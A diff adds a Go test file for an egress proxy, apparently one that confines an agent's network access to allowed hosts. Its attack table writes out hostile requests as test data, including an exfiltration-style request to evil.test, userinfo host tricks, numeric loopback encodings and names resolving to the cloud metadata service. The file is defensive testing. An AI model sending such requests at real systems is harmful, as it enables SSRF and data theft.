@@ -1,0 +1,299 @@
+package egress
+
+import (
+	"bufio"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/netip"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+// world is a proxy on a Unix socket with a made-up DNS: names resolve to
+// documentation addresses, and dialing 203.0.113.10 reaches the real
+// upstream on loopback. Every dial the proxy makes is recorded.
+type world struct {
+	sock     string
+	log      *Log
+	upstream string // the upstream's real address
+	mu       sync.Mutex
+	dialed   []string
+}
+
+func newWorld(t *testing.T, p *Proxy, upstream http.Handler) *world {
+	t.Helper()
+	w := &world{log: &Log{}}
+	up, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := &http.Server{Handler: upstream}
+	go srv.Serve(up)
+	t.Cleanup(func() { srv.Close() })
+	w.upstream = up.Addr().String()
+	dns := map[string]string{"allowed.test": "203.0.113.10", "meta.test": "169.254.169.254", "loop.test": "127.0.0.1",
+		"x.corp.test": "10.0.0.5", "own.test": "192.0.2.2", "api.corp.test": "203.0.113.10"}
+	p.Log = w.log
+	p.Own = []netip.Addr{netip.MustParseAddr("192.0.2.2")}
+	p.Resolve = func(_ context.Context, name string) ([]netip.Addr, error) {
+		if a, ok := dns[name]; ok {
+			return []netip.Addr{netip.MustParseAddr(a)}, nil
+		}
+		return nil, errors.New("no such host")
+	}
+	p.Dial = func(ctx context.Context, network, addr string) (net.Conn, error) {
+		w.mu.Lock()
+		w.dialed = append(w.dialed, addr)
+		w.mu.Unlock()
+		if strings.HasPrefix(addr, "203.0.113.10:") {
+			addr = w.upstream
+		}
+		var d net.Dialer
+		return d.DialContext(ctx, network, addr)
+	}
+	w.sock = filepath.Join(t.TempDir(), "egress.sock")
+	ln, err := net.Listen("unix", w.sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- p.Serve(ctx, ln) }()
+	t.Cleanup(func() {
+		cancel()
+		if err := <-done; err != nil {
+			t.Errorf("Serve: %v", err)
+		}
+	})
+	return w
+}
+
+// raw sends request bytes to the proxy as a client would and returns the
+// status line and the rest of the response (a tunnel's answer has none).
+func (w *world) raw(t *testing.T, req string) (status, rest string) {
+	t.Helper()
+	c, err := net.Dial("unix", w.sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	c.SetDeadline(time.Now().Add(3 * time.Second))
+	if _, err := io.WriteString(c, req); err != nil {
+		t.Fatal(err)
+	}
+	method, _, _ := strings.Cut(req, " ")
+	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: method})
+	if err != nil {
+		return "", err.Error()
+	}
+	defer resp.Body.Close()
+	var b []byte
+	if method != http.MethodConnect || resp.StatusCode != http.StatusOK {
+		b, _ = io.ReadAll(resp.Body) // an open tunnel has no body to end
+	}
+	var hd strings.Builder
+	resp.Header.Write(&hd)
+	return resp.Proto + " " + resp.Status, hd.String() + "\r\n" + string(b)
+}
+
+func (w *world) dials() []string {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	return append([]string(nil), w.dialed...)
+}
+
+// echoHost answers with the Host the upstream saw.
+func echoHost() http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, "host=%s path=%s auth=%q", r.Host, r.URL.Path, r.Header.Get("Proxy-Authorization"))
+	})
+}
+
+// TestProxyAttacks: requests an agent could send the proxy, each
+// checked for what reached the upstream and what the log recorded.
+func TestProxyAttacks(t *testing.T) {
+	t.Parallel()
+	loopUp, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer loopUp.Close()
+	rules, err := ParseRules("allowed.test, meta.test, loop.test, own.test, *.corp.test, " + loopUp.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := newWorld(t, &Proxy{Rules: rules}, echoHost())
+	rows := []struct {
+		name, req string
+		status    string
+		body      string
+		refusedAs string
+	}{
+		{"allowed plain request", "GET http://allowed.test/x HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "200", "host=allowed.test path=/x", ""},
+		{"Host header naming another host", "GET http://allowed.test/x HTTP/1.1\r\nHost: evil.test\r\n\r\n", "200", "host=allowed.test", ""},
+		{"upper case and a trailing dot", "GET http://ALLOWED.TEST./y HTTP/1.1\r\nHost: x\r\n\r\n", "200", "path=/y", ""},
+		{"proxy credentials are not passed on", "GET http://allowed.test/ HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic c2VjcmV0\r\nConnection: close\r\n\r\n", "200", `auth=""`, ""},
+		{"host not allowed", "GET http://evil.test/steal?d=repo HTTP/1.1\r\nHost: evil.test\r\n\r\n", "403", "--allow-host evil.test:80", "evil.test:80"},
+		{"userinfo naming an allowed host", "GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "400", "user information", ""},
+		{"userinfo on an allowed host", "GET http://u:p@allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "400", "user information", ""},
+		{"loopback literal", "GET http://127.0.0.1:8/ HTTP/1.1\r\nHost: x\r\n\r\n", "403", "not on this step's allow-list", "127.0.0.1:8"},
+		{"decimal address", "GET http://2130706433/ HTTP/1.1\r\nHost: x\r\n\r\n", "403", "numeric form", "2130706433:80"},
+		{"hex address", "CONNECT 0x7f000001:443 HTTP/1.1\r\nHost: x\r\n\r\n", "403", "numeric form", "0x7f000001:443"},
+		{"short address", "CONNECT 127.1:443 HTTP/1.1\r\n\r\n", "403", "numeric form", "127.1:443"},
+		{"allowed name, another port", "CONNECT allowed.test:22 HTTP/1.1\r\n\r\n", "403", "--allow-host allowed.test:22", "allowed.test:22"},
+		{"name leading to the metadata service", "CONNECT meta.test:443 HTTP/1.1\r\n\r\n", "403", "link-local", "meta.test:443"},
+		{"name leading to loopback", "GET http://loop.test/ HTTP/1.1\r\nHost: x\r\n\r\n", "403", "loopback", "loop.test:80"},
+		{"name leading to this machine", "CONNECT own.test:443 HTTP/1.1\r\n\r\n", "403", "this machine's own", "own.test:443"},
+		{"wildcard name leading to a private network", "CONNECT x.corp.test:443 HTTP/1.1\r\n\r\n", "403", "private", "x.corp.test:443"},
+		{"relative request to the proxy itself", "GET / HTTP/1.1\r\nHost: x\r\n\r\n", "400", "absolute URLs", ""},
+		{"another scheme", "GET ftp://allowed.test/ HTTP/1.1\r\nHost: x\r\n\r\n", "400", "not proxied", ""},
+		{"header too large", "GET http://allowed.test/ HTTP/1.1\r\nHost: x\r\nX-Pad: " + strings.Repeat("a", 64<<10) + "\r\n\r\n", "431", "", ""},
+		{"CONNECT with a Host header naming another host", "CONNECT allowed.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n", "200", "", ""},
+		{"loopback allowed by address", "CONNECT " + loopUp.Addr().String() + " HTTP/1.1\r\n\r\n", "200", "", ""},
+	}
+	dialed := 0
+	for _, r := range rows {
+		before := len(w.log.Refusals())
+		status, rest := w.raw(t, r.req)
+		if !strings.Contains(status, " "+r.status+" ") {
+			t.Errorf("%s: status %q, want %s\n%s", r.name, status, r.status, rest)
+		}
+		if !strings.Contains(rest, r.body) {
+			t.Errorf("%s: response lacks %q:\n%s", r.name, r.body, rest)
+		}
+		refused := w.log.Refusals()
+		if r.refusedAs != "" {
+			found := false
+			for _, f := range refused {
+				found = found || f.String() == r.refusedAs || strings.HasPrefix(f.String(), r.refusedAs+" ")
+			}
+			if !found {
+				t.Errorf("%s: refusal of %s not recorded: %v", r.name, r.refusedAs, refused)
+			}
+		} else if len(refused) != before {
+			t.Errorf("%s: recorded a refusal: %v", r.name, refused)
+		}
+		if r.refusedAs != "" && len(w.dials()) != dialed {
+			t.Errorf("%s: refused, yet the proxy dialed %v", r.name, w.dials()[dialed:])
+		}
+		dialed = len(w.dials())
+	}
+	for _, d := range w.dials() {
+		if d != "203.0.113.10:80" && d != loopUp.Addr().String() {
+			t.Errorf("the proxy dialed %s", d)
+		}
+	}
+}
+
+// TestProxyTunnelStreams: a CONNECT tunnel carries a long stream through
+// one fixed buffer (the heap does not grow with it) and the first bytes
+// arrive before the stream ends.
+func TestProxyTunnelStreams(t *testing.T) {
+	const total = 64 << 20
+	release := make(chan struct{})
+	up := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		io.WriteString(w, "first\n")
+		http.NewResponseController(w).Flush()
+		<-release
+		chunk := make([]byte, 64<<10)
+		for n := 0; n < total; n += len(chunk) {
+			if _, err := w.Write(chunk); err != nil {
+				return
+			}
+		}
+	})
+	rules, _ := ParseRules("allowed.test")
+	w := newWorld(t, &Proxy{Rules: rules}, up)
+	for _, via := range []string{"CONNECT allowed.test:80 HTTP/1.1\r\n\r\n", ""} {
+		c, err := net.Dial("unix", w.sock)
+		if err != nil {
+			t.Fatal(err)
+		}
+		br := bufio.NewReader(c)
+		target := "/"
+		if via != "" {
+			io.WriteString(c, via)
+			if line, _ := br.ReadString('\n'); !strings.Contains(line, " 200 ") {
+				t.Fatalf("CONNECT: %q", line)
+			}
+			br.ReadString('\n')
+		} else {
+			target = "http://allowed.test/"
+		}
+		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", target)
+		resp, err := http.ReadResponse(br, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		line, err := bufio.NewReader(io.LimitReader(resp.Body, 6)).ReadString('\n')
+		if line != "first\n" {
+			t.Fatalf("the first chunk did not come through before the stream ended: %q, %v", line, err)
+		}
+		var before, after runtime.MemStats
+		runtime.GC()
+		runtime.ReadMemStats(&before)
+		release <- struct{}{}
+		n, err := io.Copy(io.Discard, resp.Body)
+		runtime.GC()
+		runtime.ReadMemStats(&after)
+		c.Close()
+		if n != total || err != nil {
+			t.Fatalf("streamed %d bytes, %v; want %d", n, err, total)
+		}
+		if grew := int64(after.HeapInuse) - int64(before.HeapInuse); grew > 8<<20 {
+			t.Errorf("the heap grew by %d bytes while streaming %d", grew, total)
+		}
+	}
+}
+
+// TestProxySlowAndMany: a client that never finishes its header is cut
+// off, and connections beyond MaxConns wait for a free slot.
+func TestProxySlowAndMany(t *testing.T) {
+	t.Parallel()
+	rules, _ := ParseRules("allowed.test")
+	w := newWorld(t, &Proxy{Rules: rules, MaxConns: 2, HeaderTimeout: 300 * time.Millisecond}, echoHost())
+	slow, err := net.Dial("unix", w.sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer slow.Close()
+	io.WriteString(slow, "GET http://allowed.test/ HTTP/1.1\r\nHo")
+	slow.SetReadDeadline(time.Now().Add(5 * time.Second))
+	start := time.Now()
+	io.ReadAll(slow)
+	if d := time.Since(start); d > 3*time.Second {
+		t.Errorf("a slow header held its connection %s", d)
+	}
+	// Two idle tunnels take both slots; a third request waits.
+	var tunnels []net.Conn
+	for i := 0; i < 2; i++ {
+		c, _ := net.Dial("unix", w.sock)
+		defer c.Close()
+		io.WriteString(c, "CONNECT allowed.test:80 HTTP/1.1\r\n\r\n")
+		c.SetReadDeadline(time.Now().Add(3 * time.Second))
+		if line, _ := bufio.NewReader(c).ReadString('\n'); !strings.Contains(line, " 200 ") {
+			t.Fatalf("tunnel %d: %q", i, line)
+		}
+		tunnels = append(tunnels, c)
+	}
+	third, _ := net.Dial("unix", w.sock)
+	defer third.Close()
+	io.WriteString(third, "GET http://allowed.test/ HTTP/1.1\r\nHost: x\r\n\r\n")
+	third.SetReadDeadline(time.Now().Add(400 * time.Millisecond))
+	if b, _ := bufio.NewReader(third).Peek(1); len(b) > 0 {
+		t.Fatal("a third connection was served while two held every slot")
+	}
+	tunnels[0].Close()
+	third.SetReadDeadline(time.Now().Add(3 * time.Second))
+	if line, _ := bufio.NewReader(third).ReadString('\n'); !strings.Contains(line, " 200 ") {
+		t.Errorf("the third connection was not served once a slot was free: %q", line)
+	}
+}
